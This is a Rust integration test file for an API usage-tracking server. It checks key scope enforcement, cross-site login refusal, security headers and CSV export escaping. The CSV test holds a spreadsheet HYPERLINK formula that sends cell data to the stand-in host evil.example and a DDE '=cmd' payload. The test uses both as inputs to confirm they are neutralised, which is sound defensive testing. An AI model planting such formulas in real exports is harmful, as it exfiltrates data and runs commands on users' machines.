//! Browser defences (CSRF, security headers) and API key scopes.

use std::collections::BTreeSet;

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use tollbooth::api_keys::{NewKey, Scope, Scopes};
use tollbooth_server::cli::create_org;

use crate::app_test;
use crate::helpers::{spawn_app_with, TestApp, PASSWORD};

/// Every `/api/v1` route with the scope it needs (`None`: any key).
fn scoped_routes() -> Vec<(&'static str, &'static str, Option<Scope>)> {
    use Scope::*;
    vec![
        ("GET", "/api/v1/me", None),
        ("POST", "/api/v1/events", Some(Ingest)),
        ("GET", "/api/v1/events", Some(Read)),
        ("GET", "/api/v1/usage/export", Some(Read)),
        ("GET", "/api/v1/usage", Some(Read)),
        ("POST", "/api/v1/quota/check", Some(Ingest)),
        ("POST", "/api/v1/reservations", Some(Ingest)),
        ("GET", "/api/v1/reservations/{id}", Some(Ingest)),
        ("DELETE", "/api/v1/reservations/{id}", Some(Ingest)),
        ("POST", "/api/v1/reservations/{id}/commit", Some(Ingest)),
        ("POST", "/api/v1/resources/documents", Some(Ingest)),
        ("GET", "/api/v1/plan", Some(Read)),
        // Ingest or read: checked separately below.
        ("POST", "/api/v1/estimate", None),
        ("GET", "/api/v1/budgets", Some(Read)),
        ("POST", "/api/v1/budgets", Some(Manage)),
        ("PUT", "/api/v1/budgets/{id}", Some(Manage)),
        ("DELETE", "/api/v1/budgets/{id}", Some(Manage)),
        ("GET", "/api/v1/budgets/{id}/status", Some(Read)),
        ("GET", "/api/v1/alerts", Some(Read)),
        ("POST", "/api/v1/alerts/{id}/ack", Some(Manage)),
        ("GET", "/api/v1/alert-settings", Some(Manage)),
        ("PUT", "/api/v1/alert-settings", Some(Manage)),
        ("GET", "/api/v1/webhooks", Some(Manage)),
        ("POST", "/api/v1/webhooks", Some(Manage)),
        ("GET", "/api/v1/webhooks/deliveries", Some(Manage)),
        ("DELETE", "/api/v1/webhooks/{id}", Some(Manage)),
        ("PATCH", "/api/v1/webhooks/{id}", Some(Manage)),
        ("POST", "/api/v1/embed-tokens", Some(Read)),
        ("GET", "/api/v1/embed-origins", Some(Manage)),
        ("PUT", "/api/v1/embed-origins", Some(Manage)),
        ("GET", "/api/v1/users", Some(Read)),
        ("GET", "/api/v1/users/{user_id}/limits", Some(Read)),
        ("PUT", "/api/v1/users/{user_id}/limits", Some(Manage)),
        ("DELETE", "/api/v1/users/{user_id}/limits", Some(Manage)),
        ("GET", "/api/v1/user-limits", Some(Read)),
        ("PUT", "/api/v1/user-limits", Some(Manage)),
        ("POST", "/api/v1/webhooks/{id}/enable", Some(Manage)),
        ("GET", "/api/v1/billing", Some(Read)),
        ("GET", "/api/v1/invoices", Some(Read)),
        ("GET", "/api/v1/invoices/{id}", Some(Read)),
        ("GET", "/api/v1/invoices/{id}/csv", Some(Read)),
        ("GET", "/api/v1/credits", Some(Read)),
        ("PUT", "/api/v1/keys/{id}/model-allowlist", Some(Manage)),
        ("GET", "/api/v1/providers", Some(Manage)),
        ("PUT", "/api/v1/providers/{name}", Some(Manage)),
        ("DELETE", "/api/v1/providers/{name}", Some(Manage)),
        ("GET", "/api/v1/audit-events", Some(Read)),
        ("POST", "/api/v1/audit-events", Some(Ingest)),
        ("GET", "/api/v1/recommendations", Some(Read)),
        ("POST", "/api/v1/recommendations/{key}/dismiss", Some(Manage)),
    ]
}

/// Every (method, path) of the `/api/v1` router, read from its source.
fn routes_in_source() -> BTreeSet<(String, String)> {
    let src = include_str!("../../src/api/mod.rs");
    let mut out = BTreeSet::new();
    for chunk in src.split(".route(").skip(1) {
        let Some(path) = chunk.trim_start().strip_prefix('"').and_then(|r| r.split('"').next()) else { continue };
        for (token, method) in [("get(", "GET"), ("post(", "POST"), ("put(", "PUT"), ("delete(", "DELETE"), ("patch(", "PATCH")] {
            let uses = chunk.match_indices(token).any(|(i, _)| matches!(chunk[..i].chars().last(), Some('.' | ' ' | ':' | '\n' | '(')));
            if uses {
                out.insert((method.to_string(), format!("/api/v1{path}")));
            }
        }
    }
    out
}

async fn key_with(app: &TestApp, org_id: &str, scopes: &[Scope]) -> String {
    let new = NewKey { name: "scoped", rate_limit_per_minute: None, scopes: Scopes::of(scopes).unwrap(), model_allowlist: None };
    let key = tollbooth::api_keys::create_for_org(&app.test_db.db, org_id, &new, &tollbooth::audit::By::system("test")).await.unwrap();
    format!("Bearer {}", key.secret)
}

async fn call(app: &TestApp, method: &str, path: &str, auth: &str) -> (StatusCode, Value) {
    let path = path.replace("{id}", "0190a0a0-0000-7000-8000-000000000000").replace("{key}", "cheaper_model%3Aa%3Ab").replace("{name}", "groq").replace("{user_id}", "u1");
    let req = app.client.request(Method::from_bytes(method.as_bytes()).unwrap(), app.url(&path)).header("Authorization", auth);
    let req = if method == "GET" || method == "DELETE" { req } else { req.json(&json!({})) };
    let resp = req.send().await.unwrap();
    let status = resp.status();
    (status, resp.json().await.unwrap_or(Value::Null))
}

/// A login as a browser on `origin` would send it (or with no Origin).
async fn login_from(app: &TestApp, client: &reqwest::Client, origin: Option<&str>, referer: Option<&str>) -> reqwest::Response {
    let mut req = client.post(app.url("/api/login")).header("Accept", "application/json");
    if let Some(o) = origin {
        req = req.header("Origin", o);
    }
    if let Some(r) = referer {
        req = req.header("Referer", r);
    }
    req.form(&[("email", "owner@example.com"), ("password", PASSWORD)]).send().await.unwrap()
}

app_test! {
    async fn every_api_route_names_its_scope_and_a_key_without_it_gets_403(app) {
        let listed: BTreeSet<(String, String)> = scoped_routes().iter().map(|(m, p, _)| (m.to_string(), p.to_string())).collect();
        let in_source = routes_in_source();
        let missing: Vec<_> = in_source.difference(&listed).collect();
        assert!(missing.is_empty(), "routes without a scope entry in scoped_routes(): {missing:?}");
        let stale: Vec<_> = listed.difference(&in_source).collect();
        assert!(stale.is_empty(), "entries for routes that no longer exist: {stale:?}");

        let org = create_org(&app.test_db.db, &app.config, "Acme", "owner@example.com", None).await.unwrap();
        for (method, path, scope) in scoped_routes() {
            let Some(scope) = scope else { continue };
            let others: Vec<Scope> = Scope::ALL.into_iter().filter(|s| *s != scope).collect();
            let without = key_with(&app, &org.org_id, &others).await;
            let (status, body) = call(&app, method, path, &without).await;
            assert_eq!(status, StatusCode::FORBIDDEN, "{method} {path} without {scope:?}: {body}");
            assert_eq!(body["error"]["code"], "forbidden", "{method} {path}");
            assert_eq!(body["error"]["message"], format!("this key lacks the {} scope", scope.as_str()), "{method} {path}");

            let with = key_with(&app, &org.org_id, &[scope]).await;
            let (status, body) = call(&app, method, path, &with).await;
            assert_ne!(body["error"]["code"], "forbidden", "{method} {path} with {scope:?}: {status} {body}");
        }
        // A key with every scope (made before scopes existed) reaches everything.
        let all = format!("Bearer {}", org.api_key);
        for (method, path, _) in scoped_routes() {
            let (_, body) = call(&app, method, path, &all).await;
            assert_ne!(body["error"]["code"], "forbidden", "{method} {path}");
        }
    }

    async fn an_ingest_key_records_usage_but_cannot_read_or_manage(app) {
        let org = create_org(&app.test_db.db, &app.config, "Acme", "owner@example.com", None).await.unwrap();
        let ingest = key_with(&app, &org.org_id, &[Scope::Ingest]).await;
        let resp = app.client.post(app.url("/api/v1/events")).header("Authorization", &ingest)
            .json(&json!({"model": "gpt-4o", "input_tokens": 10, "output_tokens": 5})).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let resp = app.client.post(app.url("/api/v1/webhooks")).header("Authorization", &ingest)
            .json(&json!({"url": "https://hooks.example.com/x"})).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::FORBIDDEN);
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body, json!({"error": {"code": "forbidden", "message": "this key lacks the manage scope"}}));
        let n: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM webhook_endpoints").fetch_one(app.test_db.db.reader()).await.unwrap();
        assert_eq!(n, 0, "nothing was created");
        // Estimates are open to ingest and read keys, not to a manage-only one.
        let estimate = json!({"model": "gpt-4o", "input_tokens": 10, "max_output_tokens": 5});
        for (scopes, ok) in [(vec![Scope::Ingest], true), (vec![Scope::Read], true), (vec![Scope::Manage], false)] {
            let key = key_with(&app, &org.org_id, &scopes).await;
            let resp = app.client.post(app.url("/api/v1/estimate")).header("Authorization", &key).json(&estimate).send().await.unwrap();
            // (Allowed: answered on its merits; the test book may not price the model.)
            assert_eq!(resp.status() != StatusCode::FORBIDDEN, ok, "{scopes:?}: {}", resp.status());
        }
    }

    async fn owners_choose_scopes_on_the_keys_page_and_changes_are_audited(app) {
        let org = app.signup(&app.client, "owner@example.com", "Acme").await;
        let resp = app.server_fn(&app.client, "create_api_key", &[("org_id", &org), ("name", "client"), ("scopes", "ingest")]).await;
        assert_eq!(resp.status(), StatusCode::OK);
        let created: Value = resp.json().await.unwrap();
        assert_eq!(created["key"]["scopes"], json!(["ingest"]));
        let key_id = created["key"]["id"].as_str().unwrap().to_string();
        let resp = app.server_fn(&app.client, "create_api_key", &[("org_id", &org), ("name", "none"), ("scopes", "")]).await;
        assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY, "no scope at all is refused");
        let resp = app.server_fn(&app.client, "set_api_key_scopes", &[("org_id", &org), ("key_id", &key_id), ("scopes", "ingest,read")]).await;
        assert_eq!(resp.status(), StatusCode::OK);
        let listed: Value = app.server_fn(&app.client, "list_api_keys", &[("org_id", &org)]).await.json().await.unwrap();
        assert_eq!(listed[0]["scopes"], json!(["ingest", "read"]));
        let f = tollbooth::audit::AuditFilter { action: "api_key.scopes_change".into(), ..Default::default() };
        let log = tollbooth::audit::list(&app.test_db.db, Some(&org), &f, "UTC", 10).await.unwrap();
        assert_eq!(log.len(), 1);
        assert_eq!(log[0].actor_label, "owner@example.com");
        assert_eq!(log[0].ip.as_deref(), Some("127.0.0.1"));
    }

    async fn a_usage_report_spans_at_most_400_days(app) {
        let org = create_org(&app.test_db.db, &app.config, "Acme", "owner@example.com", None).await.unwrap();
        let auth = format!("Bearer {}", org.api_key);
        let get = |q: &'static str| app.client.get(app.url(&format!("/api/v1/usage?{q}"))).header("Authorization", auth.clone()).send();
        let resp = get("from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z").await.unwrap();
        assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body["error"]["field"], "from");
        assert!(body["error"]["message"].as_str().unwrap().contains("at most 400"), "{body}");
        let resp = get("from=2025-01-01T00:00:00Z&to=2026-01-01T00:00:00Z&group_by=month").await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK, "a year is fine");
    }

    async fn csv_downloads_write_formulas_as_text(app) {
        let org = create_org(&app.test_db.db, &app.config, "Acme", "owner@example.com", Some(PASSWORD)).await.unwrap();
        let auth = format!("Bearer {}", org.api_key);
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        let resp = app.client.post(app.url("/api/v1/events")).header("Authorization", &auth)
            .json(&json!({"model": "gpt-4o", "input_tokens": 1, "user_id": formula, "feature": "@SUM(A1)"})).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let csv = app.client.get(app.url("/api/v1/usage/export?format=csv")).header("Authorization", &auth).send().await.unwrap().text().await.unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header = reader.headers().unwrap().clone();
        let row = reader.records().next().unwrap().unwrap();
        let cell = |name: &str| row.get(header.iter().position(|h| h == name).unwrap()).unwrap().to_string();
        assert_eq!(cell("user_id"), format!("'{formula}"));
        assert_eq!(cell("feature"), "'@SUM(A1)");
        assert_eq!(cell("model"), "gpt-4o");

        // A login failure records the e-mail tried; the audit CSV keeps it inert.
        let client = app.fresh_client();
        app.signup(&client, "admin2@example.com", "Second").await;
        let stranger = app.fresh_client();
        let resp = app.server_fn(&stranger, "login", &[("email", "=cmd|'/C calc'!A0"), ("password", "whatever-1")]).await;
        assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
        let audit_csv = tollbooth::audit::csv(&tollbooth::audit::list(&app.test_db.db, None, &Default::default(), "UTC", 100).await.unwrap());
        assert!(audit_csv.contains(",'=cmd|'/C calc'!A0,"), "{audit_csv}");
        assert!(!audit_csv.contains(",=cmd"), "{audit_csv}");
    }

    async fn a_login_from_another_site_is_refused_and_sets_no_cookie(app) {
        create_org(&app.test_db.db, &app.config, "Acme", "owner@example.com", Some(PASSWORD)).await.unwrap();
        let own = app.origin();
        let cases: [(Option<&str>, Option<&str>); 5] = [
            (Some("http://evil.example"), None),
            (None, Some("http://evil.example/login")),
            (Some("null"), None),
            (None, None),
            (Some("http://evil.example"), Some(&format!("{own}/login"))),
        ];
        for (origin, referer) in cases {
            let client = app.fresh_client();
            let resp = login_from(&app, &client, origin, referer).await;
            assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{origin:?} {referer:?}");
            assert!(resp.headers().get("set-cookie").is_none(), "{origin:?}: no session cookie");
            let body: Value = resp.json().await.unwrap();
            assert_eq!(body["error"]["code"], "forbidden");
            assert!(app.whoami(&client).await.is_null(), "{origin:?}: not signed in");
        }
        // This site's own pages sign in, by Origin or (without it) by Referer.
        for (origin, referer) in [(Some(own.as_str()), None), (None, Some(format!("{own}/login")))] {
            let client = app.fresh_client();
            let resp = login_from(&app, &client, origin, referer.as_deref()).await;
            assert_eq!(resp.status(), StatusCode::OK, "{origin:?} {referer:?}");
            assert_eq!(app.whoami(&client).await["user"]["email"], "owner@example.com");
        }
        // Key-authenticated APIs ignore the Origin: no cookie is involved.
        let org = create_org(&app.test_db.db, &app.config, "B", "b@example.com", None).await.unwrap();
        let resp = app.client.post(app.url("/api/v1/events")).header("Origin", "http://evil.example")
            .header("Authorization", format!("Bearer {}", org.api_key))
            .json(&json!({"model": "gpt-4o", "input_tokens": 1})).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
    }

    async fn pages_carry_a_csp_whose_nonce_is_on_the_hydration_script(app) {
        let resp = app.client.get(app.url("/login")).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let h = resp.headers().clone();
        let csp = h["content-security-policy"].to_str().unwrap().to_string();
        assert_eq!(h["x-content-type-options"], "nosniff");
        assert_eq!(h["referrer-policy"], "same-origin");
        assert_eq!(h["x-frame-options"], "DENY");
        assert!(h.get("strict-transport-security").is_none(), "no HSTS over http");
        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("'wasm-unsafe-eval'") && csp.contains("object-src 'none'"));
        let nonce = csp.split("'nonce-").nth(1).and_then(|r| r.split('\'').next()).expect("a nonce in the CSP");
        let html = resp.text().await.unwrap();
        assert!(html.contains(&format!("<script type=\"module\" nonce=\"{nonce}\">")), "the hydration script carries the CSP's nonce");
        // Every response gets a fresh nonce, JSON ones the headers too.
        let again = app.client.get(app.url("/login")).send().await.unwrap();
        assert!(!again.headers()["content-security-policy"].to_str().unwrap().contains(nonce));
        let api = app.client.get(app.url("/api/v1/me")).send().await.unwrap();
        assert_eq!(api.headers()["x-content-type-options"], "nosniff");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hsts_is_sent_when_the_public_url_is_https() {
    let app = spawn_app_with(tollbooth::db::Engine::Sqlite, |c| c.public_url = Some("https://tollbooth.example.com".into()))
        .await
        .unwrap();
    let resp = app.client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(resp.headers()["strict-transport-security"], "max-age=31536000");
    // A configured public URL is the only origin that may write.
    let resp = app.server_fn(&app.client, "logout", &[]).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN, "the test client's own http origin is not the public URL");
    let resp = app
        .client
        .post(app.url("/api/logout"))
        .header("Accept", "application/json")
        .header("Origin", "https://tollbooth.example.com")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
}
